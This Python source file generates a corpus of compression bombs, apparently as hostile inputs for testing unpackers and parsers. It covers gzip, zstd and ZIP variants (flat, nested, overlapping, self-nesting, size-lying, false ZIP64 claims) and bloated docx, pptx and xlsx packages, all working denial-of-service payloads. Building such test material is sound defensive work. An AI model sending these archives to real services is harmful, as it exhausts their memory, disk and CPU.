"""Bombs by compression: flat, nested, overlapping, with lies about sizes, and streams that never say anything."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib

from scripts.hostile_set.bombs.registered import bomb
from scripts.hostile_set.office import office_package

MIB = 1024 * 1024
GROUP = "compression"


def zeros(size_bytes: int, wbits: int = 31) -> bytes:
    """A deflate stream of zeros: one megabyte packed once, and repeated as often as it takes. gzip's checksum is wrong: who
    looks at it has unpacked all."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    head = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + again * (size_bytes // MIB - 1) + packer.flush()


def stored_zip(members: dict[str, bytes]) -> bytes:
    """A ZIP archive whose members are not compressed again."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return file.getvalue()


def flat_member(name: str, size_bytes: int) -> bytes:
    """A ZIP archive with one member of zeros whose sizes are told truly."""
    packed = zeros(size_bytes, -15)
    checksum = 0
    for _ in range(size_bytes // MIB):
        checksum = zlib.crc32(bytes(MIB), checksum)
    return _zip_of([(name, packed, size_bytes, checksum)])


def _zip_of(members: list[tuple[str, bytes, int, int]], *, directory_only: int = 0) -> bytes:
    """A ZIP archive of packed members; with `directory_only` so many more directory entries that all lead to the first."""
    body, directory = bytearray(), bytearray()

    def entry(name: str, packed: bytes, size: int, checksum: int, offset: int) -> bytes:
        fields = struct.pack(
            "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, checksum, len(packed), size, len(name), 0, 0, 0, 0, 0, offset
        )
        return fields + name.encode()

    for name, packed, size, checksum in members:
        directory += entry(name, packed, size, checksum, len(body))
        body += (
            struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, checksum, len(packed), size, len(name), 0)
            + name.encode()
            + packed
        )
    count = len(members) + directory_only
    for _ in range(directory_only):
        directory += entry(*members[0], 0)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), len(body), 0)
    return bytes(body + directory) + end


@bomb(GROUP, "zeros.txt.gz")
def _gzip_flat() -> bytes:
    """Ten gibibytes of zeros in ten megabytes."""
    return zeros(10 * 1024 * MIB)


@bomb(GROUP, "nested.txt.gz")
def _gzip_nested() -> bytes:
    """A bomb of four gibibytes wrapped twice more: 40 KB."""
    return gzip.compress(gzip.compress(zeros(4 * 1024 * MIB), mtime=0), mtime=0)


@bomb(GROUP, "deep.txt.gz")
def _gzip_deep() -> bytes:
    """Ten wrappers."""
    data = b"words"
    for _ in range(10):
        data = gzip.compress(data, mtime=0)
    return data


@bomb(GROUP, "empty.txt.gz", heavy=True)
def _gzip_empty_members() -> bytes:
    """A million members without content: much work, and not a byte comes out."""
    return gzip.compress(b"", mtime=0) * 1_000_000


@bomb(GROUP, "name.txt.gz", heavy=True)
def _gzip_endless_name() -> bytes:
    """A header whose file name has 64 MB and no end."""
    return b"\x1f\x8b\x08\x08" + bytes(6) + b"n" * (64 * MIB)


@bomb(GROUP, "zeros.txt.zst")
def _zstd_flat() -> bytes:
    """Frames of run-length blocks: a hundred thousand times 128 KiB in a megabyte."""
    block = struct.pack("<L", 1 << 1 | (128 * 1024) << 3)[:3] + b"\0"
    return b"\x28\xb5\x2f\xfd" + b"\x00\x38" + block * 100_000 + b"\x01\0\0"


@bomb(GROUP, "window.txt.zst")
def _zstd_window() -> bytes:
    """A frame that asks for a window of more than three terabytes."""
    return b"\x28\xb5\x2f\xfd" + b"\x00\xff" + b"\x01\0\0"


@bomb(GROUP, "skipped.txt.zst", heavy=True)
def _zstd_skippable() -> bytes:
    """A million frames that are to be skipped."""
    return b"\x28\xb5\x2f\xfd\x00\x58\x01\0\0" + b"\x50\x2a\x4d\x18\0\0\0\0" * 1_000_000


@bomb(GROUP, "flat.zip", heavy=True)
def _zip_flat() -> bytes:
    """Two gibibytes of zeros in one member."""
    return flat_member("zeros.txt", 2 * 1024 * MIB)


@bomb(GROUP, "nested.zip")
def _zip_nested() -> bytes:
    """Sixteen archives in each archive, six deep, all the same: 4 PB of text at the bottom, as in the well-known bomb."""
    data = flat_member("zeros.txt", 256 * MIB)
    for level in range(6):
        packed = zlib.compressobj(9, zlib.DEFLATED, -15)
        body = packed.compress(data) + packed.flush()
        data = _zip_of([(f"{level}-{each}.zip", body, len(data), zlib.crc32(data)) for each in range(16)])
    return data


@bomb(GROUP, "overlapping.zip", heavy=True)
def _zip_overlapping() -> bytes:
    """Sixty thousand directory entries for one member of a mebibyte."""
    packed = zeros(MIB, -15)
    return _zip_of([("zeros.txt", packed, MIB, zlib.crc32(bytes(MIB)))], directory_only=60_000)


@bomb(GROUP, "quine.zip")
def _zip_within_itself() -> bytes:
    """An archive within an archive, fifty deep, each with the same name: as one that holds itself looks from outside."""
    data = b"words"
    for _ in range(50):
        data = stored_zip({"quine.zip": data})
    return data


@bomb(GROUP, "lies.zip")
def _zip_with_false_sizes() -> bytes:
    """The directory tells 10 bytes of what unpacks to 64 MB."""
    return _zip_of([("small.txt", zeros(64 * MIB, -15), 10, 0)])


@bomb(GROUP, "many.zip", heavy=True)
def _zip_of_many() -> bytes:
    """Sixty thousand empty members."""
    return stored_zip({f"{number}.txt": b"" for number in range(60_000)})


@bomb(GROUP, "huge.zip")
def _zip_of_claims() -> bytes:
    """ZIP64 fields that claim eight exabytes."""
    data = bytearray(stored_zip({"a.txt": b"words"}))
    end = data.rindex(b"PK\5\6")
    data[end:] = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 1 << 62, 1 << 62, 1 << 63, 0)
    data += struct.pack("<4sLQL", b"PK\6\7", 0, end, 1)
    data += struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return bytes(data)


for kind, part in (("docx", "word/document.xml"), ("pptx", "ppt/slides/slide1.xml"), ("xlsx", "xl/worksheets/sheet1.xml")):

    def _office_flat(kind: str = kind, part: str = part) -> bytes:
        """Half a gibibyte of spaces in the main part."""
        return office_package(kind, {part: b"<x>" + b" " * (512 * MIB)})

    _office_flat.__name__ = f"{kind}_flat"
    bomb(GROUP, f"flat.{kind}", heavy=True)(_office_flat)
